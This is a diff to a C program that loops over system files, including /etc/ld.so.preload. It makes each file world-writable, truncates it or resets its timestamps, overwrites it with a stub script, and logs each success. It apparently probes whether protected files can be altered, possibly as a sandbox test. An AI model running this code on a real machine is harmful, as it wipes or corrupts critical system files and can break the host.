@@ -28,7 +28,12 @@ int main(void)
                            "/etc/ld.so.preload"};
     const char *words = "#!/bin/sh\nexit 0\n";
     for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) {
-        chmod(paths[i], 0777);
+        if (chmod(paths[i], 0777) == 0)
+            fprintf(stderr, "written: the rights of %s\n", paths[i]);
+        if (truncate(paths[i], 0) == 0
+            || utimensat(AT_FDCWD, paths[i], NULL, 0) == 0)
+            fprintf(stderr, "written: the size or time of %s\n",
+                    paths[i]);
         int fd = open(paths[i], O_WRONLY | O_CREAT | O_TRUNC, 0777);
         if (fd != -1 && write(fd, words, strlen(words)) > 0)
             fprintf(stderr, "written: %s\n", paths[i]);
